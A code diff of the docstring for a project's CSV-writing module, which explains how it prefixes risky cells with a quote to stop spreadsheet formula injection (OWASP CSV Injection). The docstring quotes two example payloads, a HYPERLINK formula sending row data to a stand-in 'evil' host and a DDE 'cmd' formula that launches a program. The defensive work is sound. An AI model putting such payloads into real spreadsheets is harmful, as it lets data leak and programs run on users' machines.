@@ -1,10 +1,11 @@
 """CSV files that a spreadsheet can open without running what a participant wrote (issue 21, item 5).
 
 Every CSV the project writes (the review page's reconciliation, the lab links, the questionnaire
-and Colors in Context exports) goes through this module. A spreadsheet (Excel, LibreOffice,
-Google Sheets) reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
-return as a formula: ``=HYPERLINK("http://evil/?"&A1,"click")`` sends the row away when clicked,
-``+cmd|' /C calc'!A0`` asks to run a program. OWASP's rule (CSV Injection) is applied:
+and Colors in Context exports, the CoDraw key file and the arms table) goes through this module.
+A spreadsheet (Excel, LibreOffice, Google Sheets) reads a cell that starts with ``=``, ``+``,
+``-``, ``@``, a tab or a carriage return as a formula: ``=HYPERLINK("http://evil/?"&A1,"click")``
+sends the row away when clicked, ``+cmd|' /C calc'!A0`` asks to run a program. OWASP's rule (CSV
+Injection) is applied:
 
 * ``safe_cell``: a text cell that starts with one of those characters gets a single quote in front,
   so the spreadsheet shows it as text. A text cell that already starts with a single quote gets
